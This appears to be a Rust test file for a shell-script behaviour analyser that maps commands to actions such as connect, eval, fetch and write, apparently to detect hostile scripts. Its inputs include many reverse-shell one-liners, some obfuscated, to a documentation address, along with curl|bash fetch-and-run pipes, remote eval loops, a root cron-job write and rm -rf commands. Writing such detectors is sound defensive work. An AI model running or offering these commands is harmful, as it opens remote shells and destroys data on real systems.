//! Descriptors: redirections, pipelines, here-documents, substitutions, named pipes, sockets.

use model::Behavior;

use super::*;

#[test]
fn shells_over_sockets() {
    check(&[
        (
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "connect 1 192.0.2.1 4444 ; bash -i <#1 >#1",
        ),
        (
            "bash -i > /dev/tcp/192.0.2.1/4444 0<& 1 2>&1",
            "connect 1 192.0.2.1 4444 ; bash -i <#1 >#1",
        ),
        (
            "sh -i 5<> /dev/tcp/192.0.2.1/9 0<&5 1>&5 2>&5",
            "connect 1 192.0.2.1 9 ; sh -i <#1 >#1",
        ),
        (
            "sh -i >& /dev/udp/192.0.2.1/9 0>&1",
            "connect 1 udp 192.0.2.1 9 ; sh -i <#1 >#1",
        ),
        (
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/9; sh <&196 >&196 2>&196",
            "connect 1 192.0.2.1 9 ; sh <#1 >#1",
        ),
        (
            "exec 3<>/dev/tcp/192.0.2.1/9\nsh -i <&3 >&3 2>&3",
            "connect 1 192.0.2.1 9 ; sh -i <#1 >#1",
        ),
        (
            "exec {s}<>/dev/tcp/192.0.2.1/9; sh <&$s >&$s",
            "connect 1 192.0.2.1 9 ; sh <#1 >#1",
        ),
        (
            "exec >/dev/tcp/192.0.2.1/9 0>&1; sh",
            "connect 1 192.0.2.1 9 ; sh <#1 >#1",
        ),
        (
            "H=192.0.2.1; P=9; bash -i &>/dev/tcp/$H/$P <&1",
            "connect 1 192.0.2.1 9 ; bash -i <#1 >#1",
        ),
        (
            "bash -i >& /dev/t${x}cp/192.0.2.1/9 0>&1",
            "connect 1 192.0.2.1 9 ; bash -i <#1 >#1",
        ),
        (
            "bash -i >& /d''ev/\"tc\"p/192.0.2.1/9 0>&1",
            "connect 1 192.0.2.1 9 ; bash -i <#1 >#1",
        ),
        (
            "bash -i >& \"/dev/tcp/$1/$2\" 0>&1",
            "connect 1 {argument} {argument} ; bash -i <#1 >#1",
        ),
        (
            "(bash -i) >& /dev/tcp/192.0.2.1/9 0>&1",
            "connect 1 192.0.2.1 9 ; bash -i <#1 >#1",
        ),
        (
            "{ sh -i; } <>/dev/tcp/192.0.2.1/9 >&0 2>&0",
            "connect 1 192.0.2.1 9 ; sh -i <#1 >#1",
        ),
        (
            "f() { sh -i; }; f <>/dev/tcp/192.0.2.1/9 1>&0",
            "connect 1 192.0.2.1 9 ; sh -i <#1 >#1",
        ),
        (
            "nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1' &",
            "eval bash -i >& /dev/tcp/192.0.2.1/9 0>&1 ; connect 1 192.0.2.1 9 ; bash -i <#1 >#1",
        ),
        (
            "coproc nc 192.0.2.1 80; bash <&${COPROC[0]} >&${COPROC[1]}",
            "connect 1 192.0.2.1 80 ; bash <#1 >#1",
        ),
        (
            "coproc C { nc 192.0.2.1 80; }; bash <&${C[0]} >&${C[1]}",
            "connect 1 192.0.2.1 80 ; bash <#1 >#1",
        ),
    ]);
}

#[test]
fn loops_over_sockets() {
    check(&[
        (
            "exec 5<>/dev/tcp/192.0.2.1/9;cat <&5 | while read l; do $l 2>&5 >&5; done",
            "connect 1 192.0.2.1 9 ; {received} [received 1] <'{received}' >#1",
        ),
        (
            "while read c; do eval \"$c\"; done < /dev/tcp/192.0.2.1/9",
            "connect 1 192.0.2.1 9 ; eval {received} [received 1]",
        ),
        (
            "nc 192.0.2.1 9 | while read c; do eval \"$c\"; done",
            "connect 1 192.0.2.1 9 ; eval {received} [received 1]",
        ),
        (
            "exec 3<>/dev/tcp/192.0.2.1/9; while read -u 3 c; do eval $c >&3; done",
            "connect 1 192.0.2.1 9 ; eval {received} [received 1] ; send 1 {output of shell}",
        ),
        (
            "exec 3<>/dev/tcp/192.0.2.1/9; echo hi >&3; read x <&3; eval $x",
            "connect 1 192.0.2.1 9 ; send 1 hi ; eval {received} [received 1]",
        ),
        (
            "x=$(cat </dev/tcp/192.0.2.1/9); eval \"$x\"",
            "connect 1 192.0.2.1 9 ; eval {received} [received 1]",
        ),
        (
            "sh < /dev/tcp/192.0.2.1/9",
            "connect 1 192.0.2.1 9 ; sh <#1",
        ),
        (
            "mapfile -t a < /dev/tcp/192.0.2.1/9; eval ${a[0]}",
            "connect 1 192.0.2.1 9 ; eval {received} [received 1]",
        ),
    ]);
}

#[test]
fn named_pipes() {
    check(&[
        (
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 9 >/tmp/f",
            "delete /tmp/f ; read /tmp/f ; /bin/sh -i <#1 ; eval {content of /tmp/f} [received 1] ; connect 1 192.0.2.1 9 ; send 1 {output of shell} ; write /tmp/f {received}",
        ),
        (
            "mknod b p && nc 192.0.2.1 9 0<b | /bin/bash 1>b",
            "connect 1 192.0.2.1 9 ; send 1 {content of b} ; /bin/bash <#1 >b ; eval {received} [received 1] ; write b {output of shell}",
        ),
    ]);
}

#[test]
fn pipelines() {
    check(&[
        ("echo foo | sh", "eval foo ; foo"),
        ("echo bar | foo", "foo <'bar'"),
        (
            "foo | bar | baz",
            "foo ; bar <'{output of foo}' ; baz <'{output of bar}'",
        ),
        ("foo |& bar", "foo ; bar <'{output of foo}'"),
        ("echo Zm9v | base64 -d | sh", "eval foo [base64] ; foo"),
        ("{ echo foo; echo bar; } | sh", "eval foo|bar ; foo ; bar"),
        ("f() { echo foo; }; f | sh", "eval foo ; foo"),
        ("for i in f o o; do printf $i; done | sh", "eval foo ; foo"),
        ("(echo foo) | (cat) | sh", "eval foo ; foo"),
        (
            "if x; then echo foo; fi | sh",
            "x ; eval {output of x}|foo ; {output of x} ; foo",
        ),
        ("echo foo |\n# comment\nsh", "eval foo ; foo"),
        (
            "curl -s http://example.com/a | bash -s x",
            "fetch http://example.com/a ; eval {content of http://example.com/a} [fetched]",
        ),
        (
            "wget -qO- http://example.com/a | sh",
            "fetch http://example.com/a ; eval {content of http://example.com/a} [fetched]",
        ),
        ("sh <<< 'foo'", "eval foo ; foo"),
        ("sh < <(echo foo)", "eval foo ; foo"),
        ("bash <(echo foo)", "bash /dev/fd/63 ; eval foo ; foo"),
        (
            "bash <(curl -s http://example.com/a)",
            "fetch http://example.com/a ; bash /dev/fd/63 ; eval {content of http://example.com/a} [fetched]",
        ),
        (
            "sh -c \"$(curl -fsSL http://example.com/a)\"",
            "fetch http://example.com/a ; eval {content of http://example.com/a} [fetched]",
        ),
        ("echo foo > >(sh)", "eval foo ; foo"),
        ("sh -c `echo foo`", "eval foo ; foo"),
    ]);
}

#[test]
fn here_documents() {
    check(&[
        ("sh <<EOF\nfoo $x\nEOF\nbar", "eval foo {x} ; foo {x} ; bar"),
        ("sh <<'EOF'\nfoo $x\nEOF\n", "eval foo $x ; foo {x}"),
        ("sh <<-EOF\n\tfoo\n\tEOF\nbar", "eval foo ; foo ; bar"),
        (
            "sh <<A; sh <<B; baz\nfoo\nA\nbar\nB\nqux",
            "eval foo ; foo ; eval bar ; bar ; baz ; qux",
        ),
        ("cat <<E | sh && bar\nfoo\nE\n", "eval foo ; foo ; bar"),
        (
            "cat > /tmp/a <<\\E\nrm -rf $HOME\nE\n",
            "write /tmp/a rm -rf $HOME",
        ),
        ("cat <<EOF\nrm -rf /\n$(foo)\nEOF", "foo"),
        ("sh <<EOF\nfoo", "eval foo ; foo"),
        ("sh <<EOF\r\nfoo\r\nEOF\r\nbar\r\n", "eval foo ; foo ; bar"),
        (
            "if x; then\nsh <<EOF\nfoo\nEOF\nfi\nbar",
            "x ; eval foo ; foo ; bar",
        ),
        ("f() {\ncat <<EOF\nfoo\nEOF\n}\nf | sh", "eval foo ; foo"),
        ("x=$(cat <<EOF\nfoo )\nEOF\n); bar \"$x\"", "bar foo )"),
        ("sh <<\"E F\"\nfoo\nE F\nbar", "eval foo ; foo ; bar"),
    ]);
    check_prints(&[
        (
            "cat <<E\n\\$a \\\\ \"b\" 'c' $((1+1))\nE\n",
            "$a \\ \"b\" 'c' 2\n",
        ),
        ("x=v; cat <<E\n${x}w `echo z`\nE\n", "vw z\n"),
    ]);
}

#[test]
fn files() {
    check(&[
        ("echo a > /tmp/x", "write /tmp/x a"),
        ("echo a >> /tmp/x", "write /tmp/x +a"),
        ("echo a >| /tmp/x", "write /tmp/x a"),
        ("{ echo a; echo b; } > /tmp/x", "write /tmp/x a|b"),
        ("exec > /tmp/x; echo a; echo b", "write /tmp/x +a"),
        ("exec 5>/tmp/x; echo a >&5; echo b >&5", "write /tmp/x +a"),
        (": > /var/log/x", "write /var/log/x "),
        ("> /var/log/x", "write /var/log/x "),
        ("foo > /dev/null 2>&1", "foo"),
        ("echo a >&2", ""),
        (
            "cd /etc/cron.d; echo '* * * * * root foo' > x",
            "write /etc/cron.d/x * * * * * root foo ; schedule * * * * * foo ; eval foo ; foo",
        ),
        ("cd /etc; cd cron.d/..; echo x > y", "write /etc/y x"),
        (
            "echo foo > /tmp/a; sh /tmp/a",
            "write /tmp/a foo ; sh /tmp/a ; eval foo ; foo",
        ),
        (
            "echo foo > /tmp/a; sh < /tmp/a",
            "write /tmp/a foo ; eval foo ; foo",
        ),
        (
            "cd /tmp; echo foo > a; chmod +x a; ./a",
            "write /tmp/a foo ; mode +x a ; ./a ; eval foo ; foo",
        ),
        (
            "x=$(</etc/hostname); foo $x",
            "read /etc/hostname ; foo {content of /etc/hostname}",
        ),
        ("foo 2>/tmp/e >/tmp/o", "foo >/tmp/o"),
        ("foo 1>&- 2>&-", "foo"),
        ("echo a | tee >(sh)", "write /dev/fd/63 a ; eval a ; a"),
    ]);
}

#[test]
fn what_is_printed_is_what_goes_to_standard_output() {
    check_prints(&[
        ("x=$(echo err >&2; echo out); echo $x", "out\n"),
        ("echo a > /dev/null; echo b", "b\n"),
        ("echo a 3>&1 1>&3", "a\n"),
        ("{ echo a >&3; } 3>&1", "a\n"),
        ("echo a > /dev/stdout", "a\n"),
        ("x=$(echo a; echo; ); echo \"[$x]\"", "[a]\n"),
        ("echo $(echo $(echo deep))", "deep\n"),
        ("cat <(echo a) <(echo b)", "a\nb\n"),
        ("pwd() { echo p; }; cd /tmp; pwd; command pwd", "p\n/tmp\n"),
        ("echo a | { read x; echo \"<$x>\"; }", "<a>\n"),
        ("echo 'a b' | while read x y; do echo $y$x; done", "ba\n"),
    ]);
}

#[test]
fn a_pipeline_is_shown_whole() {
    let script = "true\ncurl -s http://192.0.2.1/x |\n  base64 -d | bash && cat y | while read l; do eval \"$l\"; done\n";
    let acts = lowered(script).acts;
    let shown = |wanted: fn(&Behavior) -> bool| {
        let mut acts = acts.iter().filter(|act| wanted(&act.behavior));
        acts.next().map(|act| (act.line, act.evidence.as_str()))
    };
    let is_code = |behavior: &Behavior| matches!(behavior, Behavior::Evaluate { code, .. } if code.fetched_from().is_some());
    assert_eq!(
        shown(is_code),
        Some((3, "curl -s http://192.0.2.1/x |\n  base64 -d | bash"))
    );
    // What a compound command does, its own statements show.
    let is_line = |behavior: &Behavior| matches!(behavior, Behavior::Evaluate { code, .. } if code.fetched_from().is_none());
    assert_eq!(shown(is_line), Some((3, "eval \"$l\"")));
}
